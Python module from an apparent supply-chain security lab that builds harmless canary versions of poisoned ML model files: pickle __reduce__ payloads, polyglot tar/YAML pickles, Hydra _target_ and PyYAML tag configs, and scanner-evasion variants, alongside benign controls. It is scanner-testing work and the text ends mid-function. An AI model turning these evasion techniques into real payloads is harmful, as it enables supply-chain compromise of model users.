"""Builders of harmless poisoned (and benign) model artifacts, made at run time.

Every payload is a canary: when a vulnerable loader runs it, it creates one marker file
inside the temporary folder the builder made, and does nothing else. Nothing here
reaches the network or a shell, and nothing poisoned is ever committed: the corpus is
built fresh in a temp dir each time.

Carriers covered:

* pickles, which run code through ``__reduce__`` when loaded (Python ``pickle`` docs;
  ``torch.load(weights_only=False)``; ``numpy.load(allow_pickle=True)``), in many shapes
  (protocol 0 to 5, ``GLOBAL``/``STACK_GLOBAL``/``INST``/``OBJ``, memo and ``DUP``
  tricks, ``getattr`` chains, nested, broken and stacked streams, odd archive names);
* configs whose ``_target_`` a library hands to ``hydra.utils.instantiate``: Hydra YAML,
  a Hugging Face style ``config.json``, safetensors ``__metadata__``, a ``.nemo``-style
  tar (NVIDIA NeMo, CVE-2025-23304), ``_partial_`` factories, re-exported names, and
  PyYAML ``!!python`` tags.

See Also
--------
notebooks/06_supply_chain.ipynb
labkit.supplychain.loaders.load_in_subprocess : proves each variant fires.
"""

from __future__ import annotations

import io
import json
import pickle
import shutil
import struct
import tarfile
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np

__all__ = [
    "Artifact",
    "MALICIOUS",
    "BENIGN",
    "ZOO_TARGETS",
    "make_workdir",
    "remove_workdir",
    "build",
    "build_corpus",
    "select",
    "poisoned_checkpoint",
    "benign_checkpoint",
]

ZOO_TARGETS: tuple[str, ...] = (
    "labkit.supplychain.zoo.TinyNet",
    "labkit.supplychain.zoo.linear_warmup",
)
"""The only ``_target_`` names the lesson's benign configs use (exact names)."""


@dataclass(frozen=True)
class Artifact:
    """One file of the corpus.

    Attributes
    ----------
    name : str
        Variant id, e.g. ``"pickle_memo_get"``.
    path : pathlib.Path
        The file, inside the builder's temp dir.
    loader : str
        The loader (see :data:`labkit.supplychain.loaders.LOADERS`) that a victim would
        use; for a malicious artifact, loading with it fires the canary.
    malicious : bool
    carrier : str
        ``"pickle"`` or ``"config"``.
    marker : pathlib.Path or None
        The canary file the payload creates (``None`` for benign artifacts).
    description : str
    """

    name: str
    path: Path
    loader: str
    malicious: bool
    carrier: str
    marker: Path | None
    description: str

    def __repr__(self) -> str:
        return (f"Artifact(name={self.name!r}, file={self.path.name!r}, "
                f"loader={self.loader!r}, malicious={self.malicious})")


def make_workdir(prefix: str = "labkit-supplychain-") -> Path:
    """A fresh temporary folder for artifacts and their canaries."""
    return Path(tempfile.mkdtemp(prefix=prefix))


def remove_workdir(root: Path | str) -> None:
    """Delete a folder made by :func:`make_workdir` (refuses any other folder)."""
    root = Path(root).resolve()
    tmp = Path(tempfile.gettempdir()).resolve()
    if root.parent != tmp or not root.name.startswith("labkit-"):
        raise ValueError(f"not a labkit temp folder: {root}")
    shutil.rmtree(root)


# --------------------------------------------------------------------------------------
# Canary payloads
# --------------------------------------------------------------------------------------


class OpenCanary:
    """Unpickles as ``open(marker, "w")``: creates an empty marker file, nothing else."""

    def __init__(self, marker: Path | str):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


class WriteTextCanary:
    """Unpickles as ``pathlib.Path(marker).write_text("canary")``."""

    def __init__(self, marker: Path | str):
        self.marker = Path(marker)

    def __reduce__(self):
        return (Path.write_text, (self.marker, "canary"))


class NestedCanary:
    """Unpickles as ``pickle.loads(inner)``, where ``inner`` is itself a payload."""

    def __init__(self, marker: Path | str):
        self.inner = pickle.dumps(OpenCanary(marker), protocol=4)

    def __reduce__(self):
        return (pickle.loads, (self.inner,))


# A tiny assembler for hand-written pickles (opcode names as in pickletools).
def _u(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


_PROTO4, _STACK_GLOBAL, _MEMOIZE, _POP, _DUP = b"\x80\x04", b"\x93", b"\x94", b"0", b"2"
_TUPLE2, _REDUCE, _STOP, _MARK = b"\x86", b"R", b".", b"("


def _binget(i: int) -> bytes:
    return b"h" + bytes([i])


def _open_call_p0(marker: Path, *, style: str) -> bytes:
    m = str(marker).encode()
    if style == "global":
        return b"cbuiltins\nopen\n(V" + m + b"\nVw\ntR."
    if style == "inst":
        return b"(V" + m + b"\nVw\nibuiltins\nopen\n."
    if style == "obj":
        return b"(cbuiltins\nopen\nV" + m + b"\nVw\no."
    raise ValueError(style)


def _memo_get_pickle(marker: Path) -> bytes:
    """Names reach STACK_GLOBAL only through the memo, after decoy pushes and POPs."""
    return b"".join([
        _PROTO4,
        _u("builtins"), _MEMOIZE, _POP,  # memo[0] = "builtins"
        _u("open"), _MEMOIZE, _POP,  # memo[1] = "open"
        _u("collections"), _u("OrderedDict"),  # decoys a naive scanner reads
        _binget(0), _binget(1), _STACK_GLOBAL,
        _u(str(marker)), _u("w"), _TUPLE2, _REDUCE,
        _POP, _POP, _POP,  # drop the result and the two decoys
        b"N", _STOP,
    ])


def _dup_pickle(marker: Path) -> bytes:
    """The callable is built once, parked in the memo, DUPed and called much later."""
    return b"".join([
        _PROTO4,
        _u("builtins"), _u("open"), _STACK_GLOBAL, _MEMOIZE, _DUP, _POP, _POP,
        b"}", _u("weight"), b"K\x01", b"s",  # an innocent-looking dict in between
        _binget(0), _u(str(marker)), _u("w"), _TUPLE2, _REDUCE, _POP,
        _STOP,
    ])


def _broken_pickle(marker: Path) -> bytes:
    """Runs the payload, then ends without STOP: the loader errors *after* it fired."""
    return pickle.dumps(OpenCanary(marker), protocol=2)[:-1] + b"\x8c"


_TORCH_MAGIC = 0x1950A86A20F9469CFC6C  # torch.serialization.MAGIC_NUMBER (legacy format)


def _stacked_legacy(marker: Path) -> bytes:
    """torch's legacy (pre-zip) layout: magic, protocol, sys_info, then the payload."""
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join([pickle.dumps(_TORCH_MAGIC, protocol=2), pickle.dumps(1001, protocol=2),
                     pickle.dumps(sys_info, protocol=2),
                     pickle.dumps(OpenCanary(marker), protocol=2)])


# --------------------------------------------------------------------------------------
# Files
# --------------------------------------------------------------------------------------


def _tensor(rng: np.random.Generator, *shape: int):
    import torch

    return torch.from_numpy(rng.standard_normal(shape).astype(np.float32))


def _torch_save(obj, path: Path) -> None:
    import torch

    torch.save(obj, path)


def benign_checkpoint(path: Path, *, rng=None, n: int = 0) -> Path:
    """Save an ordinary state dict (``TinyNet``-shaped, plus an optional ``n``-float tensor).

    Parameters
    ----------
    path : pathlib.Path
    rng : numpy.random.Generator or int, optional
    n : int
        Extra float32 tensor size (to make big files for the benchmark).
    """
    rng = np.random.default_rng(rng)
    sd = {"fc1.weight": _tensor(rng, 8, 4), "fc1.bias": _tensor(rng, 8),
          "fc2.weight": _tensor(rng, 2, 8), "fc2.bias": _tensor(rng, 2)}
    if n:
        sd["big"] = _tensor(rng, n)
    _torch_save(sd, path)
    return path


def poisoned_checkpoint(path: Path, marker: Path, *, rng=None) -> Path:
    """An ordinary-looking state dict with one extra entry whose ``__reduce__`` is a
    canary (``open(marker, "w")``)."""
    rng = np.random.default_rng(rng)
    sd = {"fc1.weight": _tensor(rng, 8, 4), "fc1.bias": _tensor(rng, 8),
          "_metadata_hook": OpenCanary(marker)}
    _torch_save(sd, path)
    return path


def _zip_rename(src: Path, dst: Path, rename: Callable[[str], str],
                extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(rename(info.filename), zin.read(info))
        for name, data in (extra or {}).items():
            zout.writestr(name, data)


def _npy_bytes(arr) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _object_array(payload) -> np.ndarray:
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "weights", payload
    return arr


def _safetensors(path: Path, metadata: dict[str, str] | None, rng) -> None:
    from safetensors.numpy import save_file

    save_file({"fc1.weight": rng.standard_normal((8, 4)).astype(np.float32)}, str(path),
              metadata=metadata)


def _tar(path: Path, members: dict[str, bytes], *, gz: bool) -> None:
    with tarfile.open(path, "w:gz" if gz else "w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(data))


def _yaml(cfg) -> bytes:
    import yaml

    return yaml.safe_dump(cfg, sort_keys=False).encode()


def _open_cfg(marker: Path) -> dict:
    return {"_target_": "builtins.open", "file": str(marker), "mode": "w"}


def _write_text_cfg(marker: Path, target: str = "pathlib.Path.write_text",
                    path_target: str = "pathlib.Path") -> dict:
    return {"_target_": target,
            "_args_": [{"_target_": path_target, "_args_": [str(marker)]}, "canary"]}


def _model_cfg(extra: dict | None = None) -> dict:
    cfg = {"name": "tiny", "model": {"_target_": "labkit.supplychain.zoo.TinyNet",
                                     "in_features": 4, "hidden": 8, "n_classes": 2}}
    cfg.update(extra or {})
    return cfg


# Each builder: (root, marker, rng) -> (file name written, loader, carrier, description)
def _b(name, loader, carrier, description):
    def deco(fn):
        fn.spec = (name, loader, carrier, description)
        return fn
    return deco


@_b("torch_reduce", "torch", "pickle", "torch zip checkpoint; one state-dict entry's "
    "__reduce__ calls open()")
def _v_torch_reduce(root, marker, rng):
    return poisoned_checkpoint(root / "model.pt", marker, rng=rng)


@_b("raw_pickle_p0", "torch", "pickle", "protocol-0 text pickle: GLOBAL builtins open; "
    "torch falls back to its legacy reader and runs it before reporting an error")
def _v_p0(root, marker, rng):
    p = root / "model_p0.pt"
    p.write_bytes(_open_call_p0(marker, style="global"))
    return p


@_b("raw_pickle_p2", "torch", "pickle", "protocol-2 pickle (binary GLOBAL)")
def _v_p2(root, marker, rng):
    p = root / "model_p2.bin"
    p.write_bytes(pickle.dumps(OpenCanary(marker), protocol=2))
    return p


@_b("raw_pickle_p4", "torch", "pickle", "protocol-4 pickle (STACK_GLOBAL, MEMOIZE)")
def _v_p4(root, marker, rng):
    p = root / "model_p4.pth"
    p.write_bytes(pickle.dumps(OpenCanary(marker), protocol=4))
    return p


@_b("raw_pickle_p5_write_text", "torch", "pickle", "protocol-5 pickle calling "
    "pathlib.Path.write_text (a dotted qualname via STACK_GLOBAL)")
def _v_p5(root, marker, rng):
    p = root / "model_p5.ckpt"
    p.write_bytes(pickle.dumps(WriteTextCanary(marker), protocol=5))
    return p


@_b("pickle_memo_get", "torch", "pickle", "module and name reach STACK_GLOBAL only via "
    "MEMOIZE/BINGET, with decoy strings on the stack")
def _v_memo(root, marker, rng):
    p = root / "memo.pt"
    p.write_bytes(_memo_get_pickle(marker))
    return p


@_b("pickle_dup_memo_callable", "torch", "pickle", "the callable is parked in the memo, "
    "DUPed and called after unrelated data")
def _v_dup(root, marker, rng):
    p = root / "dup.pt"
    p.write_bytes(_dup_pickle(marker))
    return p


@_b("pickle_getattr_chain", "torch", "pickle", "protocol 2 reaching Path.write_text "
    "through builtins.getattr")
def _v_getattr(root, marker, rng):
    p = root / "getattr.pt"
    p.write_bytes(pickle.dumps(WriteTextCanary(marker), protocol=2))
    return p


@_b("pickle_inst", "torch", "pickle", "protocol-0 INST opcode (import and call in one)")
def _v_inst(root, marker, rng):
    p = root / "inst.pt"
    p.write_bytes(_open_call_p0(marker, style="inst"))
    return p


@_b("pickle_obj", "torch", "pickle", "OBJ opcode after MARK and GLOBAL")
def _v_obj(root, marker, rng):
    p = root / "obj.pt"
    p.write_bytes(_open_call_p0(marker, style="obj"))
    return p


@_b("pickle_nested", "torch", "pickle", "pickle.loads() of a second pickle carried as "
    "bytes")
def _v_nested(root, marker, rng):
    p = root / "nested.pt"
    p.write_bytes(pickle.dumps(NestedCanary(marker), protocol=4))
    return p


@_b("pickle_broken_stream", "torch", "pickle", "payload runs, then the stream ends "
    "without STOP (the load errors after the damage)")
def _v_broken(root, marker, rng):
    p = root / "broken.pt"
    p.write_bytes(_broken_pickle(marker))
    return p


@_b("pickle_stacked_legacy", "torch", "pickle", "torch legacy layout: three benign "
    "pickles, the payload in the fourth")
def _v_stacked(root, marker, rng):
    p = root / "legacy.pt"
    p.write_bytes(_stacked_legacy(marker))
    return p


@_b("zip_odd_names", "torch", "pickle", "torch zip whose folder and file name look like "
    "an image (weights.png/...), saved as .png")
def _v_zip_odd(root, marker, rng):
    tmp = root / "_tmp_zip.pt"
    poisoned_checkpoint(tmp, marker, rng=rng)
    p = root / "preview.png"
    _zip_rename(tmp, p, lambda n: "weights.png/" + n.split("/", 1)[1])
    tmp.unlink()
    return p


@_b("npy_object", "numpy", "pickle", ".npy object array; np.load(allow_pickle=True) "
    "unpickles it")
def _v_npy(root, marker, rng):
    p = root / "embeddings.npy"
    p.write_bytes(_npy_bytes(_object_array(OpenCanary(marker))))
    return p


@_b("npz_odd_member", "numpy", "pickle", ".npz whose member is named weights.bin "
    "(no .npy extension) and holds an object array")
def _v_npz(root, marker, rng):
    p = root / "arrays.npz"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("mean.npy", _npy_bytes(np.zeros(3, dtype=np.float32)))
        zf.writestr("weights.bin", _npy_bytes(_object_array(OpenCanary(marker))))
    return p


@_b("nemo_ckpt", "nemo", "pickle", ".nemo tar.gz: clean model_config.yaml, "
    "model_weights.ckpt with a __reduce__ payload")
def _v_nemo_ckpt(root, marker, rng):
    tmp = root / "_w.ckpt"
    poisoned_checkpoint(tmp, marker, rng=rng)
    p = root / "asr_model.nemo"
    _tar(p, {"./model_config.yaml": _yaml(_model_cfg()),
             "./model_weights.ckpt": tmp.read_bytes()}, gz=True)
    tmp.unlink()
    return p


@_b("yaml_target_open", "config", "config", "Hydra YAML whose model _target_ is "
    "builtins.open")
def _v_yaml_open(root, marker, rng):
    p = root / "model_config.yaml"
    p.write_bytes(_yaml({"name": "tiny", "model": _open_cfg(marker)}))
    return p


@_b("yaml_target_write_text", "config", "config", "Hydra YAML: nested _args_ build a "
    "Path and call Path.write_text")
def _v_yaml_wt(root, marker, rng):
    p = root / "train.yml"
    p.write_bytes(_yaml(_model_cfg({"callbacks": [_write_text_cfg(marker)]})))
    return p


@_b("json_hf_config", "config", "config", "Hugging Face style config.json; the key is "
    "written \\u005ftarget\\u005f so a text grep misses it")
def _v_json(root, marker, rng):
    p = root / "config.json"
    cfg = {"architectures": ["TinyNet"], "model_type": "tiny",
           "backbone": {"block": _open_cfg(marker)}}
    text = json.dumps(cfg, indent=1).replace('"_target_"', '"\\u005ftarget\\u005f"')
    p.write_text(text)
    return p


@_b("safetensors_meta_json", "config", "config", "safetensors; __metadata__['config'] "
    "is a JSON string with a _target_")
def _v_st_json(root, marker, rng):
    p = root / "model.safetensors"
    _safetensors(p, {"format": "pt", "config": json.dumps({"model": _open_cfg(marker)})}, rng)
    return p


@_b("safetensors_meta_literal", "config", "config", "safetensors; __metadata__ holds a "
    "Python-literal dict (single quotes: not JSON)")
def _v_st_lit(root, marker, rng):
    p = root / "adapter.safetensors"
    _safetensors(p, {"format": "pt", "hparams": repr({"model": _open_cfg(marker)})}, rng)
    return p


@_b("nemo_yaml", "nemo", "config", ".nemo tar: model_config.yaml with a _target_ "
    "(the NeMo pattern, CVE-2025-23304)")
def _v_nemo_yaml(root, marker, rng):
    tmp = root / "_w2.ckpt"
    benign_checkpoint(tmp, rng=rng)
    p = root / "tts_model.nemo"
    _tar(p, {"model_config.yaml": _yaml({"name": "tts", "preprocessor": _open_cfg(marker)}),
             "model_weights.ckpt": tmp.read_bytes()}, gz=False)
    tmp.unlink()
    return p


@_b("partial_factory", "config", "config", "_partial_: true factory the library calls "
    "later (an optimiser-style builder)")
def _v_partial(root, marker, rng):
    p = root / "optim.yaml"
    cfg = _model_cfg({"optim": {"_target_": "builtins.open", "_partial_": True,
                                "file": str(marker), "mode": "w"}})
    p.write_bytes(_yaml(cfg))
    return p


@_b("reexport_target", "config", "config", "_target_ under the library's own prefix "
    "(labkit.supplychain.zoo.pathlib.Path.write_text) that is a re-export")
def _v_reexport(root, marker, rng):
    p = root / "reexport.yaml"
    cfg = _model_cfg({"writer": _write_text_cfg(
        marker, "labkit.supplychain.zoo.pathlib.Path.write_text",
        "labkit.supplychain.zoo.pathlib.Path")})
    p.write_bytes(_yaml(cfg))
    return p


@_b("alias_target", "config", "config", "_target_ labkit.supplychain.zoo.open_file: an "
    "alias of open defined inside the library")
def _v_alias(root, marker, rng):
    p = root / "alias.yaml"
    cfg = _model_cfg({"logger": {"_target_": "labkit.supplychain.zoo.open_file",
                                 "_args_": [str(marker), "w"]}})
    p.write_bytes(_yaml(cfg))
    return p


@_b("yaml_python_tag", "yaml_unsafe", "config", "PyYAML !!python/object/apply tag, "
    "fired by yaml.unsafe_load")
def _v_pytag(root, marker, rng):
    p = root / "legacy_config.yaml"
    p.write_text(f"name: tiny\nhook: !!python/object/apply:builtins.open ['{marker}', 'w']\n")
    return p


# --- fail-open families: each one a place where a scanner can call a live payload clean ---


def _p0_payload(marker: Path, *, stop: bool = True) -> bytes:
    """``open(marker, "w")`` in protocol 0 (text opcodes only)."""
    return b"cbuiltins\nopen\n(V" + str(marker).encode() + b"\nVw\ntR" + (b"." if stop else b"")


@_b("pickle_int_base0", "pickle", "pickle", "INT argument 0x2a (the unpickler reads it "
    "in any base; pickletools' disassembler rejects it), then the payload")
def _v_int_base0(root, marker, rng):
    p = root / "weights.pkl"
    p.write_bytes(b"I0x2a\n0" + _p0_payload(marker))
    return p


@_b("pickle_long_line", "pickle", "pickle", "a 200 KB STRING line before the payload "
    "(longer than a 64 KiB line limit)")
def _v_long_line(root, marker, rng):
    p = root / "long_line.pkl"
    p.write_bytes(b"S'" + b"a" * 200_000 + b"'\n0" + _p0_payload(marker))
    return p


@_b("pickle_no_stop", "pickle", "pickle", "protocol-0 payload with no STOP at all "
    "(the call runs, then the load fails)")
def _v_no_stop(root, marker, rng):
    p = root / "no_stop.pkl"
    p.write_bytes(_p0_payload(marker, stop=False))
    return p


@_b("pickle_after_benign", "pickle_stream", "pickle", "a numpy array pickle, then the "
    "payload: a loader that calls pickle.load until EOF runs it")
def _v_after_benign(root, marker, rng):
    p = root / "stream.pkl"
    p.write_bytes(pickle.dumps(rng.standard_normal(3), protocol=4)
                  + pickle.dumps(OpenCanary(marker), protocol=4))
    return p


def _tar_header_pickle(marker: Path) -> bytes:
    """A tar whose first header block is also a protocol-2 pickle: the name field holds
    GLOBAL builtins.open and a SHORT_BINBYTES that skips the numeric fields, the link-name
    field holds the arguments, the call and STOP."""
    path = str(marker).encode()
    if len(path) > 91:
        raise ValueError(f"marker path too long for a tar header ({len(path)} > 91 bytes)")
    buf = io.BytesIO()
    body = _yaml(_model_cfg())
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo("model_config.yaml")
        info.size, info.mtime = len(body), 0
        tf.addfile(info, io.BytesIO(body))
    data = bytearray(buf.getvalue())
    name = b"\x80\x02cbuiltins\nopen\nC" + bytes([157 - 19])  # skip to the link name
    data[0:100] = name + data[len(name):100]
    link = b"0\x8c" + bytes([len(path)]) + path + b"\x8c\x01w\x86R."
    data[157:257] = link.ljust(100, b"\x00")
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\x00 " % sum(data[:512])
    return bytes(data)


@_b("tar_pickle_polyglot", "numpy", "pickle", "a valid tar (a clean model config inside) "
    "whose header block is also a pickle: numpy.load(allow_pickle=True) unpickles it")
def _v_tar_pickle(root, marker, rng):
    p = root / "bundle.tar"
    p.write_bytes(_tar_header_pickle(_short_path(marker)))
    return p


def _short_path(marker: Path) -> Path:
    """``marker`` itself when it fits a tar header field, else the same file reached through
    a short link in the system temp folder (deep temp folders, e.g. under pytest-xdist)."""
    if len(str(marker).encode()) <= 91:
        return marker
    link = Path(tempfile.mkdtemp(prefix="labkit-m")) / "m"
    link.symlink_to(marker.parent, target_is_directory=True)
    return link / marker.name


@_b("yaml_pickle_polyglot", "pickle", "pickle", "a YAML config (clean _target_) that is "
    "also a protocol-0 pickle calling open()")
def _v_yaml_pickle(root, marker, rng):
    p = root / "polyglot.yaml"
    head = b"Vname: '\n0" + _p0_payload(marker) + b"'\n"
    p.write_bytes(head + _yaml({"model": _model_cfg()["model"]}))
    return p


@_b("yaml_pickle_config", "config", "config", "a clean one-string pickle that is also a "
    "YAML config whose _target_ is builtins.open (a scanner that stops at the pickle "
    "reading misses it)")
def _v_yaml_pickle_cfg(root, marker, rng):
    p = root / "pickle_first.yaml"
    p.write_bytes(b"Vname: 'tiny\n.'\n" + _yaml({"model": _open_cfg(marker)}))
    return p


def _npy_with_descr(descr, payload_pickle: bytes | None, *, shape=(2,), data=b"") -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + (
        payload_pickle if payload_pickle is not None else data)


@_b("npy_dtype_word", "numpy", "pickle", ".npy whose dtype is spelled 'object' (no "
    "capital O): an object array, so a pickle follows the header")
def _v_npy_word(root, marker, rng):
    p = root / "features.npy"
    p.write_bytes(_npy_with_descr("object", pickle.dumps(_object_array(OpenCanary(marker)),
                                                         protocol=3)))
    return p


@_b("npy_dtype_structured", "numpy", "pickle", ".npy with a structured dtype whose "
    "field is an object: [('w', 'object')]")
def _v_npy_struct(root, marker, rng):
    p = root / "records.npy"
    p.write_bytes(_npy_with_descr([("w", "object")], pickle.dumps(
        _object_array(OpenCanary(marker)), protocol=3)))
    return p


def _joblib(path: Path, obj, compress) -> None:
    import joblib

    joblib.dump(obj, path, compress=compress)


def _joblib_variant(method: str):
    @_b(f"joblib_{method}", "joblib", "pickle", f"joblib.dump(..., compress='{method}'): "
        f"a {method}-compressed pickle")
    def build(root, marker, rng):
        p = root / f"model.joblib.{method}"
        _joblib(p, {"model": "tiny", "hook": OpenCanary(marker)}, (method, 3))
        return p
    return build


_v_joblib = [_joblib_variant(m) for m in ("zlib", "gzip", "bz2", "xz", "lzma")]


@_b("zip_prefix", "numpy", "pickle", ".npz (object array) behind 64 bytes of junk that "
    "start with a zip signature: numpy sees PK, zipfile finds the real directory")
def _v_zip_prefix(root, marker, rng):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("weights.npy", _npy_bytes(_object_array(OpenCanary(marker))))
    p = root / "arrays.npz"
    p.write_bytes(b"PK\x03\x04" + bytes(rng.integers(1, 255, 60, dtype=np.uint8))
                  + buf.getvalue())
    return p


@_b("tar_v7_nemo", "nemo", "config", ".nemo as a V7 tar (no 'ustar' magic): "
    "model_config.yaml has a _target_")
def _v_tar_v7(root, marker, rng):
    tmp = root / "_w4.ckpt"
    benign_checkpoint(tmp, rng=rng)
    p = root / "v7_model.nemo"
    with tarfile.open(p, "w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in {"model_config.yaml": _yaml({"name": "v7", "encoder": _open_cfg(marker)}),
                           "model_weights.ckpt": tmp.read_bytes()}.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tf.addfile(info, io.BytesIO(data))
    raw = bytearray(p.read_bytes())
    off = 0
    while off + 512 <= len(raw) and any(raw[off:off + 512]):  # strip the magic: V7 headers
        size = int(raw[off + 124:off + 136].rstrip(b"\x00 ") or b"0", 8)
        raw[off + 257:off + 265] = b"\x00" * 8
        raw[off + 148:off + 156] = b" " * 8
        raw[off + 148:off + 156] = b"%06o\x00 " % sum(raw[off:off + 512])
        off += 512 + (size + 511) // 512 * 512
    p.write_bytes(bytes(raw))
    tmp.unlink()
    return p


@_b("safetensors_huge_header", "safetensors_meta", "config", "safetensors whose JSON "
    "header is padded past 100 MB; __metadata__['config'] has a _target_")
def _v_st_huge(root, marker, rng):
    p = root / "huge.safetensors"
    w = rng.standard_normal(4).astype(np.float32).tobytes()
    header = json.dumps({"__metadata__": {"config": json.dumps({"model": _open_cfg(marker)})},
                         "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}})
    raw = header.encode() + b" " * (101_000_000 - len(header))
    with open(p, "wb") as f:
        f.write(struct.pack("<Q", len(raw)))
        f.write(raw)
        f.write(w)
    return p


@_b("yaml_multidoc_broken", "config_all", "config", "two YAML documents: the first has a "
    "_target_, the second is broken (a loader builds the first before it fails)")
def _v_multidoc(root, marker, rng):
    p = root / "stages.yaml"
    p.write_bytes(_yaml({"stage": _open_cfg(marker)}) + b"---\nstage: [unclosed\n")
    return p


@_b("yaml_multidoc_tag", "yaml_unsafe_all", "config", "multi-document YAML: a "
    "!!python/object/apply tag in the first, a broken second document")
def _v_multidoc_tag(root, marker, rng):
    p = root / "legacy_stages.yaml"
    p.write_text(f"hook: !!python/object/apply:builtins.open ['{marker}', 'w']\n"
                 "---\nbroken: [\n")
    return p


@_b("yaml_deep_nested", "yaml_c_unsafe", "config", "a python tag 900 brackets deep: "
    "the pure-Python composer recurses too deep, libyaml reads it")
def _v_deep(root, marker, rng):
    p = root / "deep.yaml"
    tag = f"!!python/object/apply:builtins.open ['{marker}', 'w']"
    p.write_text("[" * 900 + tag + "]" * 900 + "\n")
    return p


@_b("json_utf16", "config", "config", "config.json in UTF-16 (json.loads decodes it from "
    "bytes) with a _target_")
def _v_json_utf16(root, marker, rng):
    p = root / "config.json"
    p.write_bytes(json.dumps({"model_type": "tiny", "head": _open_cfg(marker)}).encode("utf-16-le"))
    return p


@_b("yaml_utf16", "config", "config", "Hydra YAML in UTF-16 with a BOM (yaml decodes "
    "it from bytes) with a _target_")
def _v_yaml_utf16(root, marker, rng):
    p = root / "train_utf16.yaml"
    p.write_bytes(_yaml({"name": "tiny", "model": _open_cfg(marker)}).decode().encode("utf-16"))
    return p


@_b("toml_target", "config", "config", "a TOML config with a [model] table whose _target_ "
    "is builtins.open")
def _v_toml(root, marker, rng):
    p = root / "model.toml"
    p.write_text(f'name = "tiny"\n\n[model]\n_target_ = "builtins.open"\nfile = "{marker}"\n'
                 'mode = "w"\n')
    return p


@_b("omegaconf_create", "config", "config", "OmegaConf ${oc.create:...} builds a _target_ "
    "node at resolve time (the file has no _target_ key)")
def _v_oc_create(root, marker, rng):
    p = root / "resolved.yaml"
    p.write_text(f'name: tiny\nmodel: "${{oc.create:{{_target_: builtins.open, file: '
                 f"'{marker}', mode: w}}}}\"\n")
    return p


@_b("omegaconf_eval", "config_eval", "config", "every _target_ allowed, but a value is "
    "${eval:...}, a resolver the loading program registered")
def _v_oc_eval(root, marker, rng):
    p = root / "eval.yaml"
    code = f"__import__('builtins').open('{marker}', 'w') and 8"
    cfg = _model_cfg()
    cfg["model"]["hidden"] = f'${{eval:"{code}"}}'
    p.write_bytes(_yaml(cfg))
    return p


# --- benign controls ------------------------------------------------------------------


@_b("state_dict", "torch", "pickle", "ordinary TinyNet state dict")
def _c_state_dict(root, marker, rng):
    return benign_checkpoint(root / "tinynet.pt", rng=rng)


@_b("state_dict_rich", "torch", "pickle", "checkpoint with OrderedDict, epoch, lists, "
    "a torch.Size and an int64 tensor")
def _c_rich(root, marker, rng):
    import collections

    import torch

    obj = {"state_dict": collections.OrderedDict(w=_tensor(rng, 3, 3)), "epoch": 7,
           "history": [0.5, 0.25], "shape": torch.Size([3, 3]),
           "steps": torch.arange(5), "device": torch.device("cpu")}
    p = root / "trainer_state.ckpt"
    _torch_save(obj, p)
    return p


@_b("state_dict_large", "torch", "pickle", "checkpoint with 200k random floats (random "
    "storage bytes)")
def _c_large(root, marker, rng):
    return benign_checkpoint(root / "large.pt", rng=rng, n=200_000)


@_b("npy_float", "numpy", "pickle", "plain float32 .npy")
def _c_npy(root, marker, rng):
    p = root / "features.npy"
    p.write_bytes(_npy_bytes(rng.standard_normal((16, 4)).astype(np.float32)))
    return p


@_b("npz_arrays", "numpy", "pickle", ".npz of two arrays")
def _c_npz(root, marker, rng):
    p = root / "stats.npz"
    np.savez(p, mean=rng.standard_normal(4), std=np.ones(4))
    return p


@_b("numpy_pickle_p2", "pickle", "pickle", "numpy array pickled with protocol 2")
def _c_np_p2(root, marker, rng):
    p = root / "array_p2.pkl"
    p.write_bytes(pickle.dumps(rng.standard_normal(5), protocol=2))
    return p


@_b("numpy_pickle_p5", "pickle", "pickle", "numpy array pickled with protocol 5")
def _c_np_p5(root, marker, rng):
    p = root / "array_p5.pkl"
    p.write_bytes(pickle.dumps(rng.integers(0, 9, 6), protocol=5))
    return p


@_b("safetensors_plain", "safetensors", "config", "ordinary safetensors file")
def _c_st(root, marker, rng):
    p = root / "weights.safetensors"
    _safetensors(p, None, rng)
    return p


@_b("safetensors_meta_allowed", "config", "config", "safetensors whose metadata config "
    "targets labkit.supplychain.zoo.TinyNet")
def _c_st_meta(root, marker, rng):
    p = root / "tiny.safetensors"
    _safetensors(p, {"format": "pt", "config": json.dumps(_model_cfg())}, rng)
    return p


@_b("yaml_allowed_targets", "config", "config", "Hydra YAML with TinyNet and a "
    "linear_warmup _partial_")
def _c_yaml(root, marker, rng):
    p = root / "tiny.yaml"
    cfg = _model_cfg({"schedule": {"_target_": "labkit.supplychain.zoo.linear_warmup",
                                   "_partial_": True, "steps": 3}})
    p.write_bytes(_yaml(cfg))
    return p


@_b("json_hf_plain", "config", "config", "Hugging Face style config.json, no _target_")
def _c_json(root, marker, rng):
    p = root / "hf_config.json"
    p.write_text(json.dumps({"architectures": ["TinyNet"], "hidden_size": 8,
                             "id2label": {"0": "cat", "1": "dog"}}, indent=1))
    return p


@_b("nemo_benign", "nemo", "config", ".nemo tar with an allow-listed config and clean "
    "weights")
def _c_nemo(root, marker, rng):
    tmp = root / "_w3.ckpt"
    benign_checkpoint(tmp, rng=rng)
    p = root / "good_model.nemo"
